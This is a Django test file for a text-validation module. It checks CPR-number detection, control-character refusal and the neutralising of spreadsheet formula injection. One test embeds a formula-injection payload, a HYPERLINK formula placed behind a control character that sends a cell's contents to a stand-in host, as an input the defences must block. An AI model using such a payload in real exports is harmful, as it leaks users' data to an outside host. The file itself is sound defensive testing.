"""The one rule set for free text (aktiv.text): what it refuses, what it lets through, and
that every text field of every form (the admin's too) follows it."""

import importlib
import inspect

import pytest
from django import forms
from django.contrib import admin
from django.test import RequestFactory

from aktiv import text
from aktiv.text import (
    CleanTextField,
    CleanTextMixin,
    find_cpr,
    follows_the_rule,
    is_typed_text,
    spreadsheet_cell,
    xml_text,
)

# --- CPR numbers -----------------------------------------------------------------------

CPR_VARIANTS = [
    "010190-1234",
    "0101901234",
    "010190 1234",
    "CPR-010190-1234",  # a prefix glued on with a dash (passed the old check)
    "010190–1234",  # en dash (passed the old check)
    "010190—1234",  # em dash
    "010190\u22121234",  # minus sign
    "010190\u00a01234",  # no-break space
    "010190\u00ad1234",  # soft hyphen
    "cpr nr.010190-1234",
    "cpr:0101901234",
    "CPR0101901234",
    "010190 - 1234",
    "０１０１９０－１２３４",  # fullwidth digits and hyphen
    "født 311299-4321.",
]


@pytest.mark.parametrize("value", CPR_VARIANTS)
def test_every_cpr_variant_is_found(value):
    assert find_cpr(value), value
    assert find_cpr(f"Borgeren ({value}) fortalte om sit arbejde.")


DANISH_TEXT_WITHOUT_CPR = [
    "Telefon 12 34 56 78, ordrenummer 9999991234",
    "Kontonummer 1234-5678901234",
    "Lønnen var 4000 kr. i 2020, og 12.500 kr. i 2021.",
    "Vi samlede 250 underskrifter den 15.03.2024 kl. 10.30.",
    "Reg.nr. 1551 konto 0001234567",
    "EAN 5790001234567 og CVR 12345678",
    "Mødet var 2024-03-15 fra 09:00 til 15:30 i lokale 311.",
    "Jeg tør mere nu: mod, samling og samværd. Saml op, 123456 gange!",
    "Postnummer 9000 Aalborg, Boulevarden 13, 2. sal",
    "Datoen 320190-1234 findes ikke, og 011390-1234 heller ikke.",
]


@pytest.mark.parametrize("value", DANISH_TEXT_WITHOUT_CPR)
def test_danish_text_with_numbers_is_not_taken_for_a_cpr_number(value):
    assert find_cpr(value) is None


# --- control characters and normalisation --------------------------------------------------


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f"])
def test_control_characters_are_refused_not_dropped(char):
    field = CleanTextField()
    with pytest.raises(forms.ValidationError) as caught:
        field.clean(f"{char}Titel")  # at the start: str.strip() would have dropped it
    assert caught.value.code == "control_character"
    assert "styretegn (tegn nr. 1)" in caught.value.messages[0]


@pytest.mark.parametrize("char", ["\x85", "\x9b"])
def test_c1_control_characters_are_refused(char):
    with pytest.raises(forms.ValidationError):
        CleanTextField().clean(f"a{char}b")


def test_tab_and_newlines_are_kept_and_line_breaks_become_newlines():
    assert CleanTextField().clean("a\tb\r\nc\rd\ne") == "a\tb\nc\nd\ne"


def test_text_is_stored_in_nfc():
    decomposed = "Gl\u00e6de og e\u0301"  # é as e + combining acute
    assert CleanTextField().clean(decomposed) == "Glæde og \u00e9"


def test_a_cpr_number_is_refused_beside_the_field_and_masked():
    with pytest.raises(forms.ValidationError) as caught:
        CleanTextField().clean("Mit CPR-010190-1234")
    assert caught.value.code == "cpr"
    message = caught.value.messages[0]
    assert "xxxxxx-xxxx" in message and "010190" not in message


def test_check_reports_every_problem_of_a_text():
    with pytest.raises(forms.ValidationError) as caught:
        text.check("\x07 010190-1234")
    assert {e.code for e in caught.value.error_list} == {"control_character", "cpr"}


# --- writers -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+45", "-2", "@SUM(A1)", "\tx", "\rx", "\nx", " =1+1", "＝1+1", "＋1", "－1", "＠x"],
)
def test_a_cell_that_could_be_a_formula_is_neutralised(value):
    assert spreadsheet_cell(value).startswith("'")


def test_the_formula_check_runs_on_the_final_text():
    """The attack of finding 1: a control character first, then a formula. Removing the
    character before the check would expose the '='."""
    cell = spreadsheet_cell('\x01=HYPERLINK("http://x/?d="&C2,"Åbn")')
    assert not cell.startswith("=")
    assert "\x01" not in cell
    for value in ("\x00=1", "\x1f+1", "\ufffe@x", "\x0b-1"):
        cell = spreadsheet_cell(value)
        assert not cell.startswith(("=", "+", "@", "-")), cell
        assert cell.startswith("\ufffd")  # the character is replaced visibly, not dropped


def test_cells_hold_only_characters_xml_allows():
    assert xml_text("a\x00b\x08c\x0bd\x1fe\ufffef\uffff\ud800g\tt\nn") == (
        "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffd\ufffdg\tt\nn"
    )
    assert spreadsheet_cell(5) == 5 and spreadsheet_cell(None) == ""


# --- every form follows the rule ----------------------------------------------------------

FORM_MODULES = [
    "aktiv.forms",
    "domains.forms",
    "stories.forms",
    "stories.feedback_forms",
    "workshops.forms",
    "reports.forms",
]


def _project_form_classes():
    found = []
    for name in FORM_MODULES:
        module = importlib.import_module(name)
        for _name, cls in inspect.getmembers(module, inspect.isclass):
            if issubclass(cls, forms.BaseForm) and cls.__module__ == module.__name__:
                found.append(cls)
    return found


def test_every_form_of_the_project_follows_the_text_rule():
    classes = _project_form_classes()
    assert len(classes) >= 15
    missing = [cls.__qualname__ for cls in classes if not issubclass(cls, CleanTextMixin)]
    assert not missing, f"forms without CleanTextMixin: {missing}"


def _text_fields(form):
    form.full_clean()  # converts, and fields added in __init__ are there by now
    return {name: field for name, field in form.fields.items() if is_typed_text(field)}


@pytest.mark.django_db
def test_every_free_text_field_of_every_form_is_cleaned(facilitator_user):
    """Every CharField/TextField a person types into, in every form (built with the
    arguments the views give them), is a CleanTextField after cleaning."""
    from stories.forms import StoryForm, WithdrawForm
    from stories.models import Story
    from tests.factories import make_workshop
    from workshops.forms import (
        AnalysisNoteForm,
        GroupNamesForm,
        PaperBallotForm,
        QuoteForm,
        SelectionForm,
    )

    workshop = make_workshop()
    kwargs = {
        GroupNamesForm: {"groups": workshop.groups.all()},
        PaperBallotForm: {"workshop": workshop},
        QuoteForm: {"workshop": workshop},
        AnalysisNoteForm: {"workshop": workshop},
        SelectionForm: {"stories": Story.objects.none()},
        StoryForm: {"user": facilitator_user},
        WithdrawForm: {"story": Story()},
    }
    unchecked = []
    for cls in _project_form_classes():
        if cls.__name__.startswith("_"):
            continue
        extra = kwargs.get(cls, {})
        try:
            form = cls(data={}, **extra)
        except TypeError:
            form = cls(RequestFactory().get("/"), data={}, **extra)  # the login forms
        for name, field in _text_fields(form).items():
            if not follows_the_rule(field):
                unchecked.append(f"{cls.__name__}.{name}")
    assert not unchecked, f"text fields without the text rule: {unchecked}"


@pytest.mark.django_db
def test_every_text_field_of_every_admin_page_is_cleaned(admin_user):
    """Every admin page (ours, Django's users and groups, django-axes' read-only logs):
    each text field its add and change forms offer is a CleanTextField."""
    request = RequestFactory().get("/admin/")
    request.user = admin_user
    unchecked = []
    for model, model_admin in admin.site._registry.items():
        forms_of_page = [(model._meta.label, model_admin.get_form(request))]
        for inline in model_admin.get_inline_instances(request):
            forms_of_page.append((inline.model._meta.label, inline.get_formset(request).form))
        for label, form_class in forms_of_page:
            form = form_class(data={})
            for name, field in _text_fields(form).items():
                if not follows_the_rule(field):
                    unchecked.append(f"{label}.{name}")
    assert not unchecked, f"admin text fields without the text rule: {unchecked}"
    assert issubclass(admin.site._registry[Story_model()].form, CleanTextMixin)


def Story_model():  # noqa: N802 - reads like the model it returns
    from stories.models import Story

    return Story
